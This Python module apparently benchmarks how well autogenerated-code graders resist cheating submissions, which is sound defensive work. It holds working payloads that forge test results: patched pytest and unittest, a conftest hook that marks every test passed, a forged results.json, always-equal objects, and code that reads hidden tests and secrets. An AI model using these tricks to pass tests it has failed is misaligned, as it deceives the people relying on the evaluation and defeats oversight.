"""Which graders can be forged, read or stopped by a few lines of a submission.

    python -m benchmarks.attacks [--only ATTACK] [--grader GRADER] [--json FILE]

Each attack is one submission whose functions are wrong in every check, so it has earned nothing.
What happened is observed, never assumed: *forged* means that the grader's own result shows
points, *read* that a secret came out in what the grader stored or printed, *stopped* that a right
submission behind it got no result (or the grader had to be killed), *leftover* that a process
outlived the grading, *held* that nothing of this happened.
"""

from __future__ import annotations

import argparse
import json
import os
import secrets
import subprocess
import sys
import tempfile
import zlib
from collections.abc import Sequence
from concurrent.futures import ThreadPoolExecutor
from dataclasses import dataclass, field
from pathlib import Path

from rich.console import Console
from rich.table import Table

from benchmarks.common import CHECKS, MODULE, ROOT, SOLUTION, WRONG, Run, processors
from benchmarks.peers import Files, Grader, Kit, graders, ready

TIMEOUT = 180.0
SECRET_VARIABLE = "COURSE_SECRET"
NO_RESULT = "no result"
MARK = "LEAKED:"  # the attacks put it together at run time, so that their text does not hold it


@dataclass(frozen=True)
class Attack:
    """Code behind the wrong functions, and files beside the module.

    `alone`: graded in a command of its own, for it may disturb others.
    """

    name: str
    code: str = ""
    files: dict[str, str] = field(default_factory=dict)
    alone: bool = False

    @property
    def submission(self) -> Files:
        """All files of the submission."""
        return {f"{MODULE}.py": f"{WRONG}\n\n{self.code}", **self.files}


PATCH_EVERYTHING = """\
import builtins
import unittest

unittest.TestCase.assertTrue = lambda *args, **kwargs: None
builtins.abs = lambda value: 0.0
try:
    import torch
    torch.allclose = lambda *args, **kwargs: True
except Exception:
    pass
"""
JSON_IN_FRONT = """\
import importlib.util
import os
import sys
import sysconfig
import unittest

unittest.TestCase.assertTrue = lambda *args, **kwargs: None
_folder = os.path.join(sysconfig.get_paths()["stdlib"], "json")
_spec = importlib.util.spec_from_file_location(
    "json", os.path.join(_folder, "__init__.py"), submodule_search_locations=[_folder])
sys.modules["json"] = importlib.util.module_from_spec(_spec)
_spec.loader.exec_module(sys.modules["json"])
"""
PYTEST_HOOK = """\
import pytest

@pytest.hookimpl(hookwrapper=True)
def pytest_runtest_makereport(item, call):
    outcome = yield
    report = outcome.get_result()
    report.outcome = "passed"
"""
FULL_RESULTS = """\
import json
import os

def forge():
    full = {"score": 4.0, "tests": [{"name": "all", "score": 4.0, "max_score": 4.0}]}
    for folder in ("results", "../results"):
        if os.path.isdir(folder):
            with open(os.path.join(folder, "results.json"), "w") as file:
                json.dump(full, file)
"""
LOOK_BACK = """\
import linecache
import re
import sys
import torch

def _wanted(pattern):
    frame = sys._getframe(2)
    while frame is not None:
        lines = linecache.getlines(frame.f_code.co_filename)
        here = lines[max(0, frame.f_lineno - 1):frame.f_lineno + 3]
        for value in list(frame.f_locals.values()):
            here += [e.source for e in getattr(value, "examples", [])]
        found = re.search(pattern, "".join(here))
        if found:
            return found[1]
        frame = frame.f_back

def sparsity(tensor):
    return float(_wanted(r"abs\\(got - ([\\d.]+)\\)"))

def magnitude_mask(weight, share):
    return eval(_wanted(r"allclose\\(got, (torch\\.tensor\\([^)]*\\))\\)"))
"""
ALWAYS = """\
class Always:
    def __init__(self, *args): pass
    def _self(self, *args): return self
    def _true(self, *args): return True
    __sub__ = __rsub__ = __abs__ = _self
    __lt__ = __le__ = __eq__ = __bool__ = _true
    @classmethod
    def __torch_function__(cls, function, types, args=(), kwargs=None): return True

def sparsity(tensor): return Always()
def magnitude_mask(weight, share): return Always()
"""
READ_TESTS = """\
import itertools
import pathlib

def _look():
    here = pathlib.Path.cwd().resolve()
    for folder in (here, *list(here.parents)[:2]):
        try:
            files = itertools.islice(folder.rglob("test*"), 2000)
            more = itertools.islice(folder.rglob("*.ipynb"), 2000)
            for path in itertools.chain(files, more):
                try:
                    text = path.read_text() if path.is_file() else ""
                except Exception:
                    continue
                if "allclose(got" in text and "nothing" in text + path.name:
                    return path.name
        except OSError:
            continue

_secret = _look()
"""
TELL = """
def sparsity(tensor):
    if _secret:
        print("LEA" + "KED:" + _secret)
    return 2.0
"""

ATTACKS = (
    Attack("wrong, no attack"),
    Attack("exit status 0 on import", "import os\nos._exit(0)\n", alone=True),
    Attack("SystemExit on import", "raise SystemExit(0)\n"),
    Attack(
        "patched pytest reports",
        "try:\n    from _pytest.reports import TestReport\n"
        "    _make = TestReport.from_item_and_call.__func__\n"
        "    def _passed(cls, item, call):\n        call.excinfo = None\n"
        "        return _make(cls, item, call)\n"
        "    TestReport.from_item_and_call = classmethod(_passed)\nexcept ImportError:\n    pass\n",
    ),
    Attack(
        "patched unittest",
        "import unittest\nunittest.TestCase.assertTrue = lambda *args, **kwargs: None\n",
    ),
    Attack("patched torch.allclose", "torch.allclose = lambda *args, **kwargs: True\n"),
    Attack("patched builtins", "import builtins\nbuiltins.abs = lambda value: 0.0\n"),
    Attack(
        "patched notebook kernel",
        "try:\n    get_ipython().input_transformers_cleanup.append(\n"
        "        lambda lines: [] if any('assert' in line for line in lines) else lines)\n"
        "except NameError:\n    pass\n",
    ),
    Attack(
        "grader's module through sys.modules",
        "import sys\nfor _name, _module in list(sys.modules.items()):\n"
        "    if _name.endswith('json_test_runner'):\n"
        "        def _fine(self, test, err):\n            self.addSuccess(test)\n"
        "        _module.JSONTestResult.addFailure = _fine\n"
        "        _module.JSONTestResult.addError = _fine\n"
        "    if _name == 'otter.test_files.ok_test':\n"
        "        _module.run_doctest = lambda *args, **kwargs: (True, '')\n",
    ),
    Attack("always-equal object", ALWAYS),
    Attack("expected values through frames", LOOK_BACK),
    Attack("conftest.py beside", "", {"conftest.py": PYTEST_HOOK}),
    Attack(
        "pytest.ini with a plugin",
        "",
        {
            "pytest.ini": "[pytest]\naddopts = -p cheat\npythonpath = .\n",
            "cheat.py": PYTEST_HOOK,
        },
    ),
    Attack("local json.py", "", {"json.py": JSON_IN_FRONT}),
    Attack("sitecustomize.py", "", {"sitecustomize.py": PATCH_EVERYTHING}),
    Attack("writing results.json", FULL_RESULTS + "\nforge()\n"),
    Attack("rewriting results at exit", FULL_RESULTS + "\nimport atexit\natexit.register(forge)\n"),
    Attack(
        "secret of the environment",
        "import os\n_secret = os.environ.get(" + repr(SECRET_VARIABLE) + ")\n" + TELL,
    ),
    Attack("hidden tests from disk", READ_TESTS + TELL),
    Attack(
        "process left behind",
        "import subprocess\nsubprocess.Popen(['sleep', '300'], start_new_session=True)\n",
        alone=True,
    ),
    Attack("endless loop", "while True:\n    pass\n", alone=True),
)


def verdict(points: float | None, outputs: str, done: Run | None, right: float | None) -> str:
    """What an attack achieved, from what the grader wrote and what its processes did."""
    effects = []
    if points:
        effects.append(f"forged {points:g}/4")
    if MARK in outputs:
        effects.append("read")
    if right is None or (done is not None and done.timed_out):
        effects.append("stopped the batch")
    if done is not None and done.orphans:
        effects.append("leftover")
    return ", ".join(effects) or "held"


def run_attacks(grader: Grader, attacks: Sequence[Attack]) -> dict[str, str]:
    """Verdict by attack.

    A batch grader gets the harmless-looking attacks in one command, the others (and those that
    ended without a result) one by one with a right submission behind.
    """
    with tempfile.TemporaryDirectory(prefix="bench-") as folder:
        root = Path(folder)
        grader.prepare(root)
        together = [attack for attack in attacks if grader.batch and not attack.alone]
        verdicts = _grade(grader, root, together) if together else {}
        for attack in attacks:
            if verdicts.get(attack.name) in (None, NO_RESULT):
                verdicts |= _grade(grader, root, [attack])
    return verdicts


def _grade(grader: Grader, root: Path, attacks: Sequence[Attack]) -> dict[str, str]:
    alone = len(attacks) == 1
    names = {f"attack{zlib.crc32(attack.name.encode()):08x}": attack for attack in attacks}
    files = {name: attack.submission for name, attack in names.items()}
    if grader.batch:
        files["right"] = {f"{MODULE}.py": SOLUTION}
    graded = grader.grade(root, files, None, TIMEOUT)
    (done,) = graded.runs
    right = graded.points["right"] if grader.batch else float(len(CHECKS))
    verdicts = {}
    for name, attack in names.items():
        points = graded.points[name]
        if not alone and (points is None or right is None):
            verdicts[attack.name] = NO_RESULT
            continue
        outputs = _stored(root, grader, name) + (done.output if alone else "")
        verdicts[attack.name] = verdict(points, outputs, done if alone else None, right)
    return verdicts


def _stored(root: Path, grader: Grader, name: str) -> str:
    """Everything that the grader wrote about one submission."""
    texts = []
    for pattern in grader.results:
        for path in root.glob(pattern.format(name=name)):
            if path.is_file():
                texts.append(path.read_text(encoding="utf-8", errors="replace"))
    return "".join(texts)


def table(verdicts: dict[str, dict[str, str]]) -> Table:
    """Attacks in rows, graders in columns."""
    shown = Table(title="What an undeserving submission gets", title_justify="left")
    shown.add_column("attack", no_wrap=True)
    for name in verdicts:
        shown.add_column(name)
    for attack in ATTACKS:
        cells = [by_attack.get(attack.name, "") for by_attack in verdicts.values()]
        if any(cells):
            styled = [cell if cell in ("held", "") else f"[red]{cell}[/red]" for cell in cells]
            shown.add_row(attack.name, *styled)
    return shown


def _side_by_side(names: Sequence[str], attacks: Sequence[str]) -> dict[str, dict[str, str]]:
    """Each grader in a process of its own, as many at a time as there are processors."""

    def one(name: str, file: Path) -> dict[str, str]:
        chosen = [part for attack in attacks for part in ("--only", attack)]
        command = [
            sys.executable,
            "-m",
            "benchmarks.attacks",
            "--grader",
            name,
            "--json",
            str(file),
        ]
        subprocess.run([*command, *chosen], cwd=ROOT, check=True, stdout=subprocess.DEVNULL)
        verdicts: dict[str, dict[str, str]] = json.loads(file.read_text(encoding="utf-8"))
        return verdicts[name]

    slowest_first = list(reversed(names))
    with (
        tempfile.TemporaryDirectory(prefix="bench-") as folder,
        ThreadPoolExecutor(len(processors())) as pool,
    ):
        files = [Path(folder, f"{number}.json") for number in range(len(names))]
        verdicts = dict(zip(slowest_first, pool.map(one, slowest_first, files)))
    return {name: verdicts[name] for name in names}


def main() -> None:
    """Read the arguments, attack, print."""
    parser = argparse.ArgumentParser(
        description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter
    )
    parser.add_argument("--only", action="append", metavar="ATTACK")
    parser.add_argument("--grader", action="append", metavar="GRADER", help="only this grader")
    parser.add_argument("--json", type=Path, metavar="FILE")
    options = parser.parse_args()
    chosen = [a for a in ATTACKS if not options.only or a.name in options.only]
    console = Console()
    known = graders()
    names = [n for n in options.grader or known if n in known and (n == Kit.name or ready())]
    if len(names) == 1:
        os.environ[SECRET_VARIABLE] = secrets.token_hex(8)
        verdicts = {names[0]: run_attacks(known[names[0]], chosen)}
    else:
        verdicts = _side_by_side(names, [attack.name for attack in chosen])
    for name, by_attack in verdicts.items():
        held = sum(verdict == "held" for verdict in by_attack.values())
        console.print(f"{name}: held {held} of {len(chosen)}")
    console.print(table(verdicts))
    if options.json:
        options.json.write_text(json.dumps(verdicts, indent=1), encoding="utf-8")


if __name__ == "__main__":
    main()
